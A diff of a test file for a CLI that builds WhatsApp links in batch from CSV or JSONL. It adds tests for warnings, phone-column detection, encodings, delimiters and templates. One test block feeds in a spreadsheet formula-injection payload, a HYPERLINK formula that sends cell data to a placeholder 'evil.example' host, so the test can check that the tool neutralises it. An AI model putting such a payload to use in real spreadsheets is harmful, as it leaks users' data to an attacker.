@@ -1,10 +1,19 @@
-import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  existsSync,
+  mkdirSync,
+  readdirSync,
+  readFileSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
 import { join } from 'node:path';
 import { parse as parseCsv } from 'csv-parse/sync';
 import { stringify as stringifyCsv } from 'csv-stringify/sync';
 import { describe, expect, it } from 'vitest';
 import { csvLine } from '../../src/commands/link-batch-chunk.js';
 import { type Chunk, splitChunks } from '../../src/commands/link-batch-split.js';
+import { neutralizeFormula } from '../../src/core/csv.js';
 import { expectError } from '../helpers/assert.js';
 import { run, spawnCli, tempDir } from '../helpers/cli.js';
 import { bitmapToImage, jsqrBytes, jsqrText, parseSvg, zbarText } from '../helpers/qr-decode.js';
@@ -74,6 +83,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/919876543210?text=Hi%20Asha%20from%20Pune%20(Asha%20Bakery)%20%5Bref%3Aspring%5D',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       {
         phone: '+44 7911 123456',
@@ -85,6 +95,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/447911123456?text=Custom%20for%20Bob%2C%20!%20%5Bref%3Aautumn%5D',
         waId: '447911123456',
         error: '',
+        warning: '',
       },
       {
         phone: '(650) 253-0000',
@@ -95,10 +106,11 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/16502530000?text=Hi%20Cara%20from%20SF%20(Asha%20Bakery)%20%5Bref%3Asummer%5D',
         waId: '16502530000',
         error: '',
+        warning: '',
       },
     ]);
     // the header line is exactly the input columns then url, waId, error
-    expect(r.stdout.split('\n')[0]).toBe('phone,name,text,campaign,city,url,waId,error');
+    expect(r.stdout.split('\n')[0]).toBe('phone,name,text,campaign,city,url,waId,error,warning');
     expect(summary(r.stderr)).toEqual({ rows: 3, failed: 0 });
     expect(rowLines(r.stderr)).toEqual([]);
   });
@@ -107,7 +119,7 @@ describe('wabox link --batch: CSV in', () => {
     const r = await run(['link', '--batch', '-', '--api'], { stdin: 'phone\n+919876543210\n' });
     expect(r.code).toBe(0);
     expect(r.stdout).toBe(
-      'phone,url,waId,error\n+919876543210,https://api.whatsapp.com/send?phone=919876543210,919876543210,\n',
+      'phone,url,waId,error,warning\n+919876543210,https://api.whatsapp.com/send?phone=919876543210,919876543210,,\n',
     );
   });
 
@@ -128,6 +140,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/919876543210?text=Hi%2C%20you%0D%0Athere',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       {
         phone: '+919876543211',
@@ -136,6 +149,7 @@ describe('wabox link --batch: CSV in', () => {
         url: 'https://wa.me/919876543211?text=plain',
         waId: '919876543211',
         error: '',
+        warning: '',
       },
     ]);
   });
@@ -193,6 +207,7 @@ describe('wabox link --batch: JSONL in', () => {
         url: 'https://wa.me/919876543210?text=Hi%20Asha',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       // a null column is an empty value, which is still a value: the fallback does not apply
       {
@@ -202,6 +217,7 @@ describe('wabox link --batch: JSONL in', () => {
         url: 'https://wa.me/919876543211?text=Hi%20',
         waId: '919876543211',
         error: '',
+        warning: '',
       },
       {
         phone: '+44 7911 123456',
@@ -210,6 +226,7 @@ describe('wabox link --batch: JSONL in', () => {
         url: 'https://wa.me/447911123456?text=Own%20text%20Bob',
         waId: '447911123456',
         error: '',
+        warning: '',
       },
     ]);
   });
@@ -250,7 +267,7 @@ describe('wabox link --batch: JSONL in', () => {
     expect(summary(r.stderr)).toEqual({ rows: 8, failed: 6 });
     // CSV out: the columns come from the first object even though line 1 was not one
     const rows = csv(r.stdout);
-    expect(Object.keys(rows[0]!)).toEqual(['phone', 'name', 'url', 'waId', 'error']);
+    expect(Object.keys(rows[0]!)).toEqual(['phone', 'name', 'url', 'waId', 'error', 'warning']);
     expect(rows.map((row) => [row.phone, row.waId, row.error])).toEqual([
       ['', '', 'not valid JSON'],
       ['+919876543210', '919876543210', ''],
@@ -301,6 +318,7 @@ describe('wabox link --batch: outputs', () => {
         url: 'https://wa.me/919876543210?text=Hi%20Asha',
         waId: '919876543210',
         error: '',
+        warning: '',
       },
       {
         phone: '+919876543211',
@@ -308,6 +326,7 @@ describe('wabox link --batch: outputs', () => {
         url: 'https://wa.me/919876543211?text=Hi%20B%2C%20b',
         waId: '919876543211',
         error: '',
+        warning: '',
       },
     ]);
     if (expected === 'jsonl') expect(text.split('\n').length).toBe(3);
@@ -316,7 +335,7 @@ describe('wabox link --batch: outputs', () => {
 
   it('writes the input columns for a header-only CSV', async () => {
     const csvOut = await run(['link', '--batch', '-'], { stdin: 'phone,name\n' });
-    expect(csvOut).toMatchObject({ code: 0, stdout: 'phone,name,url,waId,error\n' });
+    expect(csvOut).toMatchObject({ code: 0, stdout: 'phone,name,url,waId,error,warning\n' });
     const json = await run(['link', '--batch', '-', '--output-format', 'json'], { stdin: 'phone,name\n' });
     expect(json.stdout).toBe('[]\n');
   });
@@ -326,7 +345,7 @@ describe('wabox link --batch: outputs', () => {
     const output = file(dir, 'out.csv', 'old content '.repeat(10_000));
     await run(['link', '--batch', '-', '--output', output], { stdin: 'phone\n+919876543210\n' });
     expect(readFileSync(output, 'utf8')).toBe(
-      'phone,url,waId,error\n+919876543210,https://wa.me/919876543210,919876543210,\n',
+      'phone,url,waId,error,warning\n+919876543210,https://wa.me/919876543210,919876543210,,\n',
     );
   });
 });
@@ -440,7 +459,7 @@ describe('wabox link --batch: bad input', () => {
       await run(['link', '--batch', input, '--output', join(dir, 'out.csv')]),
       2,
       'the CSV header has no phone column (columns: "name", "text")',
-      'the first row names the columns; one must be "phone"',
+      'the first row names the columns: one must be phone, Phone Number, Mobile, WhatsApp or Tel, or name it with --phone-column',
     );
     expect(readdirSync(dir)).toEqual(['in.csv']);
   });
@@ -829,7 +848,7 @@ describe('csvLine', () => {
           '',
         ),
       );
-      expect(`${csvLine(fields)}\n`).toBe(stringifyCsv([fields]));
+      expect(`${csvLine(fields, true)}\n`).toBe(stringifyCsv([fields]));
     }
   });
 });
@@ -975,5 +994,351 @@ describe('wabox link --batch: chunks and workers', () => {
         Array.from({ length: 300 }, (_, i) => i).filter((i) => i % 23 !== 4),
       );
     }
+  });
+});
+
+describe('wabox link --batch: spreadsheet formulas in CSV output', () => {
+  const INPUT = [
+    'phone,name,=cmd',
+    '+919876543210,"=HYPERLINK(""http://evil.example/?d=""&B3,""Click"")",@SUM(1)',
+    '=1+1,-2+3,"\tx"',
+    '+44 7911 123456,"\rcr",-1.5',
+    '',
+  ].join('\n');
+
+  it("prefixes cells that start with = + - @ tab or CR with ', leaves plain numbers as they are", async () => {
+    const r = await run(['link', '--batch', '-'], { stdin: INPUT });
+    expect(r.code).toBe(1);
+    const rows = parseCsv(r.stdout, { bom: true }) as string[][];
+    expect(rows[0]).toEqual(['phone', 'name', "'=cmd", 'url', 'waId', 'error', 'warning']);
+    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
+      ['+919876543210', `'=HYPERLINK("http://evil.example/?d="&B3,"Click")`, "'@SUM(1)"],
+      ["'=1+1", "'-2+3", "'\tx"],
+      ['+44 7911 123456', "'\rcr", '-1.5'],
+    ]);
+    expect(rows[2]![5]).toMatch(/^"=1\+1" is not a phone number/);
+  });
+
+  it('writes the cells as they are with --raw-csv, and JSONL output is never changed', async () => {
+    const raw = await run(['link', '--batch', '-', '--raw-csv'], { stdin: INPUT });
+    const rows = parseCsv(raw.stdout, { bom: true }) as string[][];
+    expect(rows[0]!.slice(0, 3)).toEqual(['phone', 'name', '=cmd']);
+    expect(rows.slice(1).map((row) => row.slice(0, 3))).toEqual([
+      ['+919876543210', `=HYPERLINK("http://evil.example/?d="&B3,"Click")`, '@SUM(1)'],
+      ['=1+1', '-2+3', '\tx'],
+      ['+44 7911 123456', '\rcr', '-1.5'],
+    ]);
+    const json = await run(['link', '--batch', '-', '--output-format', 'jsonl'], { stdin: INPUT });
+    expect(jsonl(json.stdout).map((row) => [row.phone, row.name, row['=cmd']])).toEqual([
+      ['+919876543210', `=HYPERLINK("http://evil.example/?d="&B3,"Click")`, '@SUM(1)'],
+      ['=1+1', '-2+3', '\tx'],
+      ['+44 7911 123456', '\rcr', '-1.5'],
+    ]);
+  });
+
+  it.each([
+    ['=1+1', "'=1+1"],
+    ['@x', "'@x"],
+    ['+', "'+"],
+    ['-', "'-"],
+    ['+1 (650) 253-0000', '+1 (650) 253-0000'],
+    ['+91-98765-43210', '+91-98765-43210'],
+    ['-1+1', "'-1+1"],
+    ['+1 cmd', "'+1 cmd"],
+    ['\t', "'\t"],
+    ['a=1', 'a=1'],
+    ['', ''],
+  ])('neutralizeFormula(%j) is %j', (cell, expected) => {
+    expect(neutralizeFormula(cell)).toBe(expected);
+  });
+});
+
+describe('wabox link --batch: invalid UTF-8', () => {
+  // as Excel saves "CSV" on Windows: windows-1252, é is 0xE9, € is 0x80
+  const WINDOWS_1252 = Buffer.concat([
+    Buffer.from('phone,text\n+919876543210,caf'),
+    Buffer.from([0xe9]),
+    Buffer.from('\n+919876543211,ok\n+919876543212,"two\nlines '),
+    Buffer.from([0x80]),
+    Buffer.from('"\n+919876543213,fine\n'),
+  ]);
+  const NOT_UTF8 = (byte: string) =>
+    `not valid UTF-8 (byte 0x${byte}): save the file as UTF-8, or pass --encoding windows-1252 (or latin1)`;
+
+  it.each(['1000000', '8'])(
+    'refuses each row holding it with its line number, never a U+FFFD in a link (--chunk-bytes %s)',
+    async (chunkBytes) => {
+      const r = await run(['link', '--batch', '-', '--output-format', 'jsonl', '--chunk-bytes', chunkBytes], {
+        stdin: WINDOWS_1252,
+      });
+      expect(r.code).toBe(1);
+      expect(r.stdout).not.toContain('\ufffd');
+      expect(r.stdout).not.toContain('%EF%BF%BD');
+      expect(jsonl(r.stdout).map((row) => [row.phone ?? null, row.error])).toEqual([
+        [null, NOT_UTF8('E9')],
+        ['+919876543211', ''],
+        [null, NOT_UTF8('80')],
+        ['+919876543213', ''],
+      ]);
+      expect(rowLines(r.stderr)).toEqual([`line 2: ${NOT_UTF8('E9')}`, `line 4: ${NOT_UTF8('80')}`]);
+    },
+  );
+
+  it('converts with --encoding windows-1252 or latin1', async () => {
+    const cp1252 = await run(
+      ['link', '--batch', '-', '--encoding', 'windows-1252', '--output-format', 'jsonl'],
+      {
+        stdin: WINDOWS_1252,
+      },
+    );
+    expect(cp1252.code).toBe(0);
+    expect(jsonl(cp1252.stdout).map((row) => row.text)).toEqual(['café', 'ok', 'two\nlines €', 'fine']);
+    expect(jsonl(cp1252.stdout)[0]!.url).toBe('https://wa.me/919876543210?text=caf%C3%A9');
+    const latin1 = await run(['link', '--batch', '-', '--encoding', 'latin1', '--output-format', 'jsonl'], {
+      stdin: WINDOWS_1252,
+    });
+    expect(jsonl(latin1.stdout).map((row) => row.text)).toEqual(['café', 'ok', 'two\nlines \u0080', 'fine']);
+  });
+
+  it('refuses a header that is not UTF-8 (exit 2), and a JSONL line by its number', async () => {
+    expectError(
+      await run(['link', '--batch', '-'], {
+        stdin: Buffer.from('phone,caf\xe9\n+919876543210,x\n', 'latin1'),
+      }),
+      2,
+      'the CSV header is not valid UTF-8 (byte 0xE9)',
+      'save the file as UTF-8, or pass --encoding windows-1252 (or latin1)',
+    );
+    const r = await run(['link', '--batch', '-', '--input-format', 'jsonl'], {
+      stdin: Buffer.from('{"phone":"+919876543210"}\n\n{"phone":"+919876543211","t":"caf\xe9"}\n', 'latin1'),
+    });
+    expect(r.code).toBe(1);
+    expect(rowLines(r.stderr)).toEqual([`line 3: ${NOT_UTF8('E9')}`]);
+  });
+});
+
+describe('wabox link --batch: small things that must hold', () => {
+  it('reads only a row’s own columns: {{toString}} and {{constructor}} are missing, as for one link', async () => {
+    const batch = await run(['link', '--batch', '-', '--text', 'Hi {{toString}} {{constructor}}'], {
+      stdin: 'phone,name\n+919876543210,Asha\n',
+    });
+    expect(batch.code).toBe(1);
+    expect(rowLines(batch.stderr)).toEqual(['line 2: no value for {{toString}}, {{constructor}}']);
+    expectError(
+      await run(['link', '+919876543210', '--text', 'Hi {{toString}} {{constructor}}']),
+      2,
+      'no value for {{toString}}, {{constructor}}',
+      'give each a value with --var toString=... or a default such as {{toString|...}}',
+    );
+    // and columns with those names are variables like any other
+    const named = await run(
+      ['link', '--batch', '-', '--text', 'Hi {{__proto__}} {{constructor}}', '--output-format', 'jsonl'],
+      { stdin: 'phone,__proto__,constructor\n+919876543210,P,C\n' },
+    );
+    const row = jsonl(named.stdout)[0]!;
+    expect(Object.entries(row)).toContainEqual(['__proto__', 'P']);
+    expect(row.url).toBe('https://wa.me/919876543210?text=Hi%20P%20C');
+  });
+
+  it('keeps the mode of an output file it replaces', async () => {
+    const dir = tempDir();
+    const output = file(dir, 'out.csv', 'old\n');
+    chmodSync(output, 0o600);
+    const r = await run(['link', '--batch', '-', '--output', output], { stdin: 'phone\n+919876543210\n' });
+    expect(r.code).toBe(0);
+    expect(readFileSync(output, 'utf8')).toContain('https://wa.me/919876543210');
+    expect(statSync(output).mode & 0o777).toBe(0o600);
+  });
+
+  it.each([
+    ['csv', 'phone,name\n+919876543210,Asha\n', 'columns: "phone", "name"'],
+    ['jsonl', '{"phone":"+919876543210","name":"Asha"}\n', 'columns: "phone", "name"'],
+  ])(
+    'refuses --name-column naming no column (%s, exit 2) before writing anything',
+    async (format, stdin, columns) => {
+      const dir = tempDir();
+      const qrDir = join(dir, 'qr');
+      expectError(
+        await run(
+          [
+            'link',
+            '--batch',
+            '-',
+            '--input-format',
+            format,
+            '--qr-dir',
+            qrDir,
+            '--name-column',
+            'nosuch',
+            '--jobs',
+            '1',
+          ],
+          { stdin },
+        ),
+        2,
+        `--name-column "nosuch" is not a column of the input (${columns})`,
+      );
+      expect(readdirSync(qrDir)).toEqual([]);
+    },
+  );
+});
+
+describe('wabox link --batch: warnings in the output', () => {
+  it('puts a row’s warning in its warning column (CSV) and field (JSONL), and on stderr', async () => {
+    const stdin = 'phone\n+919876543210\n+447700900123\n';
+    const out = await run(['link', '--batch', '-'], { stdin });
+    expect(out.code).toBe(0);
+    const warning = '+447700900123 is in no assigned range (libphonenumber metadata): check it';
+    expect(csv(out.stdout).map((row) => [row.waId, row.warning])).toEqual([
+      ['919876543210', ''],
+      // a cell starting with + that is more than a number is neutralised like any other
+      ['447700900123', `'${warning}`],
+    ]);
+    expect(rowLines(out.stderr)).toEqual([`line 3: warning: ${warning}`]);
+    const json = await run(['link', '--batch', '-', '--output-format', 'jsonl'], { stdin });
+    expect(jsonl(json.stdout).map((row) => row.warning)).toEqual(['', warning]);
+  });
+});
+
+describe('wabox link --batch: real-world exports', () => {
+  it.each(['Mobile Number', 'Phone Number', 'WhatsApp', 'Mobile', 'Tel', ' mobile_number ', 'PHONE NUMBER'])(
+    'finds the number in a %j column and keeps the column name',
+    async (header) => {
+      const r = await run(['link', '--batch', '-', '--text', 'Hi {{name}}'], {
+        stdin: `name,${header}\nAsha,+91 98765 43210\n`,
+      });
+      expect(r.code).toBe(0);
+      expect(r.stdout).toBe(
+        `name,${header.trim()},url,waId,error,warning\nAsha,+91 98765 43210,https://wa.me/919876543210?text=Hi%20Asha,919876543210,,\n`,
+      );
+    },
+  );
+
+  it('takes --phone-column, refuses an unknown one (exit 2) and two candidates without it', async () => {
+    const stdin = 'Mobile,Tel,name\n+919876543210,+919876543211,Asha\n';
+    expectError(
+      await run(['link', '--batch', '-'], { stdin }),
+      2,
+      'the columns "Mobile" and "Tel" could each be the phone column',
+      'choose one with --phone-column "Mobile"',
+    );
+    const tel = await run(['link', '--batch', '-', '--phone-column', 'Tel'], { stdin });
+    expect(csv(tel.stdout)[0]!.waId).toBe('919876543211');
+    expectError(
+      await run(['link', '--batch', '-', '--phone-column', 'nosuch'], { stdin }),
+      2,
+      '--phone-column "nosuch" is not a column of the input (columns: "Mobile", "Tel", "name")',
+    );
+    const jsonlIn = await run(['link', '--batch', '-', '--input-format', 'jsonl', '--phone-column', 'cell'], {
+      stdin: '{"cell":"+919876543212"}\n',
+    });
+    expect(csv(jsonlIn.stdout)[0]!.waId).toBe('919876543212');
+  });
+
+  it.each([
+    [
+      'semicolons (Excel in Europe), with a BOM and CRLF',
+      '\ufeffName;Mobile Number;Note\r\nAsha;+91 98765 43210;"a;b, c"\r\n',
+      [],
+    ],
+    ['tabs', 'Name\tMobile Number\tNote\nAsha\t+91 98765 43210\ta;b, c\n', []],
+    [
+      '| given with --delimiter',
+      'Name|Mobile Number|Note\nAsha|+91 98765 43210|a;b, c\n',
+      ['--delimiter', '|'],
+    ],
+    [
+      'tab given with --delimiter tab',
+      'Name\tMobile Number\tNote\nAsha\t+91 98765 43210\ta;b, c\n',
+      ['--delimiter', 'tab'],
+    ],
+  ])('reads fields separated by %s', async (_, stdin, extra) => {
+    for (const chunkBytes of ['1000000', '4']) {
+      const r = await run(['link', '--batch', '-', '--chunk-bytes', chunkBytes, ...extra], { stdin });
+      expect(r.code).toBe(0);
+      expect(csv(r.stdout)).toEqual([
+        {
+          Name: 'Asha',
+          'Mobile Number': '+91 98765 43210',
+          Note: 'a;b, c',
+          url: 'https://wa.me/919876543210',
+          waId: '919876543210',
+          error: '',
+          warning: '',
+        },
+      ]);
+    }
+  });
+
+  it('refuses a --delimiter it does not know (exit 2)', async () => {
+    expectError(
+      await run(['link', '--batch', '-', '--delimiter', 'xx'], { stdin: 'phone\n1\n' }),
+      2,
+      '--delimiter must be ",", ";", "|" or "tab", not "xx"',
+    );
+  });
+});
+
+describe('wabox link --batch --template', () => {
+  async function library() {
+    const env = { WABOX_CONFIG_DIR: tempDir() };
+    await run(['config', 'set', 'business-name', "Asha's Kitchen"], { env });
+    for (const pack of ['hi', 'en'])
+      expect((await run(['template', 'init', '--pack', pack], { env })).code).toBe(0);
+    return env;
+  }
+  const text = (url: string) => decodeURIComponent(new URL(url).searchParams.get('text') ?? '');
+
+  it('renders the template for each row with its columns as variables, and per-row template and lang', async () => {
+    const env = await library();
+    const stdin = [
+      'phone,template,lang,product',
+      '+919876543210,cta-order,hi,',
+      '+919876543211,cta-info,en,cake',
+      '+919876543212,,,',
+      '+919876543213,cta-order,fr,',
+      '',
+    ].join('\n');
+    for (const jobs of ['1', '2']) {
+      // the built CLI: worker threads need dist/
+      const r = await spawnCli(
+        [
+          'link',
+          '--batch',
+          '-',
+          '--template',
+          'cta-info-en',
+          '--jobs',
+          jobs,
+          '--chunk-bytes',
+          '8',
+          '--output-format',
+          'jsonl',
+        ],
+        { stdin, env },
+      );
+      expect(r.code, r.stderr).toBe(1);
+      const rows = jsonl(r.stdout);
+      expect(rows.map((row) => (row.url ? text(row.url) : row.error))).toEqual([
+        "नमस्ते Asha's Kitchen! मुझे ऑर्डर देना है।",
+        "Hello! I saw your post and I'd like to know more about cake.",
+        // an empty cell leaves the template's default
+        expect.stringMatching(/^Hello! I saw your post and I'd like to know more about (?!\.)/),
+        'no cta template "cta-order-fr", nor "cta-order" in language fr',
+      ]);
+    }
+  });
+
+  it('refuses an unknown --template (exit 6) and --template with --text (exit 2)', async () => {
+    const env = await library();
+    const stdin = 'phone\n+919876543210\n';
+    const unknown = await run(['link', '--batch', '-', '--template', 'nosuch'], { stdin, env });
+    expect(unknown.code).toBe(6);
+    expect(unknown.stderr).toMatch(/^error: no template named "nosuch"/);
+    expectError(
+      await run(['link', '--batch', '-', '--template', 'cta-order-en', '--text', 'x'], { stdin, env }),
+      2,
+      '--text and --template both give the text: choose one',
+    );
   });
 });
